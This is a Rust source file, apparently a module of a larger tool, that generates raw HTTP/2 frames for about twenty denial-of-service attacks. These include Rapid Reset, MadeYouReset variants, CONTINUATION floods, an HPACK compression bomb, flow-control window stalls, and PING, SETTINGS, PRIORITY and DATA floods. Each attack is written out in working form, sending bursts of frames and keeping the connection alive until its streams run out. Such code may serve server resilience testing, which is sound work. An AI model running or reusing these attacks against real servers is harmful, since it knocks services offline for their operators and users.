//! The words of the attacks on HTTP/2.

use super::attack::{Attack, HELD, LARGE, Next, Script, UPLOAD};
use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PREFACE,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, request,
};
use super::lane::Heard;
use std::time::Duration;

/// Static indices of HPACK.
const GET: u8 = 2;
const POST: u8 = 3;
/// Pieces that are sent in one go.
const BURST: u32 = 100;
/// Streams at once, as every listener allows.
const STREAMS: u32 = 100;
/// The largest payload without leave.
const FRAME_MAX: usize = 16 << 10;
/// The bomb: a field that fits the table of 4,096 bytes, and how often it is named.
const BOMB: (usize, usize) = (4_000, 4_000);
/// After this stream the connection is used up.
const LAST_STREAM: u32 = 0x7fff_ff00;
/// How long windows are waited for.
const WINDOW: Duration = Duration::from_millis(10);

/// One connection.
pub(super) struct H2 {
    attack: Attack,
    begun: bool,
    /// The next stream.
    stream: u32,
    /// SETTINGS that were acknowledged.
    acknowledged: u32,
    /// What of the windows was used up.
    used: u32,
}

impl H2 {
    pub(super) fn new(attack: Attack) -> Self {
        Self { attack, begun: false, stream: 1, acknowledged: 0, used: 0 }
    }

    fn preface(&self, said: &mut Vec<u8>) {
        said.extend_from_slice(PREFACE);
        let closed = matches!(self.attack, Attack::ClosedWindows | Attack::StreamDrip);
        // SETTINGS_INITIAL_WINDOW_SIZE.
        let window: &[u8] = if closed { &[0, 4, 0, 0, 0, 0] } else { &[] };
        frame(said, SETTINGS, 0, 0, window);
    }

    fn open(&mut self, said: &mut Vec<u8>, flags: u8, block: &[u8]) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        frame(said, HEADERS, flags, stream, block);
        stream
    }

    /// What comes once, behind the preface.
    fn begin(&mut self, said: &mut Vec<u8>) {
        let whole = END_HEADERS | END_STREAM;
        match self.attack {
            Attack::Continuation | Attack::EmptyContinuation => {
                self.open(said, END_STREAM, &request(GET, "/"));
            }
            Attack::EmptyData | Attack::PaddedData => {
                self.open(said, END_HEADERS, &request(POST, UPLOAD));
            }
            Attack::ClosedWindows | Attack::StreamDrip => {
                for _ in 0..STREAMS {
                    self.open(said, whole, &request(GET, LARGE));
                }
            }
            Attack::EndlessRequests => {
                for _ in 0..STREAMS {
                    self.open(said, END_HEADERS, &request(POST, UPLOAD));
                }
            }
            Attack::HpackBomb => {
                let mut block = request(GET, "/");
                field(&mut block, BOMB.0, true);
                self.open(said, whole, &block);
            }
            Attack::AfterGoaway => frame(said, GOAWAY, 0, 0, &[0; 8]),
            _ => {}
        }
    }

    /// What comes again and again.
    fn burst(&mut self, heard: &Heard, said: &mut Vec<u8>) -> Next {
        match self.attack {
            Attack::ClosedWindows | Attack::EndlessRequests => return Next::Wait(HELD),
            Attack::PaddedData => return self.pad(heard, said),
            Attack::StreamDrip => {
                for stream in (1..2 * STREAMS).step_by(2) {
                    frame(said, WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
                }
                frame(said, WINDOW_UPDATE, 0, 0, &STREAMS.to_be_bytes());
            }
            Attack::Continuation | Attack::LargeHeaders | Attack::HpackBomb => self.heads(said),
            Attack::RapidReset
            | Attack::MadeYouResetZero
            | Attack::MadeYouResetOverflow
            | Attack::MadeYouResetHeaders
            | Attack::AfterGoaway => (0..BURST).for_each(|_| self.request(said)),
            _ => (0..BURST).for_each(|number| self.small(said, number)),
        }
        Next::Send
    }

    /// A request, and what becomes of it.
    fn request(&mut self, said: &mut Vec<u8>) {
        let whole = END_HEADERS | END_STREAM;
        let block = request(GET, "/");
        let stream = self.open(said, whole, &block);
        match self.attack {
            // CANCEL.
            Attack::RapidReset => frame(said, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            Attack::MadeYouResetZero => frame(said, WINDOW_UPDATE, 0, stream, &[0; 4]),
            Attack::MadeYouResetOverflow => {
                frame(said, WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
            }
            Attack::MadeYouResetHeaders => frame(said, HEADERS, whole, stream, &block),
            _ => {}
        }
    }

    /// Heads that are long, or become long.
    fn heads(&mut self, said: &mut Vec<u8>) {
        match self.attack {
            Attack::Continuation => {
                let mut block = Vec::new();
                (0..4).for_each(|_| field(&mut block, 4_000, false));
                frame(said, CONTINUATION, 0, 1, &block);
            }
            Attack::HpackBomb => {
                let mut block = request(GET, "/");
                // The newest field of the dynamic table.
                block.extend(std::iter::repeat_n(0x80 | 62, BOMB.1));
                self.open(said, END_HEADERS | END_STREAM, &block);
            }
            _ => {
                let mut block = request(GET, "/");
                (0..64).for_each(|_| field(&mut block, 4_000, false));
                let mut parts = block.chunks(FRAME_MAX).peekable();
                let first = parts.next().unwrap_or_default();
                let stream = self.open(said, END_STREAM, first);
                while let Some(part) = parts.next() {
                    let flags = if parts.peek().is_none() { END_HEADERS } else { 0 };
                    frame(said, CONTINUATION, flags, stream, part);
                }
            }
        }
    }

    /// A frame that costs next to nothing to send.
    fn small(&mut self, said: &mut Vec<u8>, number: u32) {
        match self.attack {
            Attack::EmptyContinuation => frame(said, CONTINUATION, 0, 1, &[]),
            // SETTINGS_HEADER_TABLE_SIZE, up and down.
            Attack::Settings => {
                frame(said, SETTINGS, 0, 0, &[0, 1, 0, 0, (number % 2) as u8 * 8, 0])
            }
            Attack::Ping => frame(said, PING, 0, 0, &[0; 8]),
            Attack::Priority => {
                frame(said, PRIORITY, 0, 1 + 2 * number, &[0, 0, 0, 0, 16]);
            }
            Attack::WindowDrip => frame(said, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
            Attack::EmptyData => frame(said, DATA, 0, 1, &[]),
            _ => frame(said, 0xfa, 0, 0, &[0; 8]),
        }
    }

    /// DATA of one byte, which says that no padding follows; as many as the windows allow.
    fn pad(&mut self, heard: &Heard, said: &mut Vec<u8>) -> Next {
        let window = heard.window.get().min(heard.stream_window.get());
        let fit = window.saturating_sub(self.used).min(BURST);
        for _ in 0..fit {
            frame(said, DATA, PADDED, 1, &[0]);
        }
        self.used += fit;
        if fit == 0 { Next::Wait(WINDOW) } else { Next::Send }
    }
}

impl Script for H2 {
    fn next(&mut self, heard: &Heard, said: &mut Vec<u8>) -> Next {
        if !self.begun {
            self.begun = true;
            self.preface(said);
            self.begin(said);
        }
        // What is acknowledged in time does not end the connection for that.
        for _ in self.acknowledged..heard.settings.get() {
            frame(said, SETTINGS, ACK, 0, &[]);
        }
        self.acknowledged = heard.settings.get();
        if self.stream >= LAST_STREAM {
            return Next::Leave;
        }
        self.burst(heard, said)
    }
}
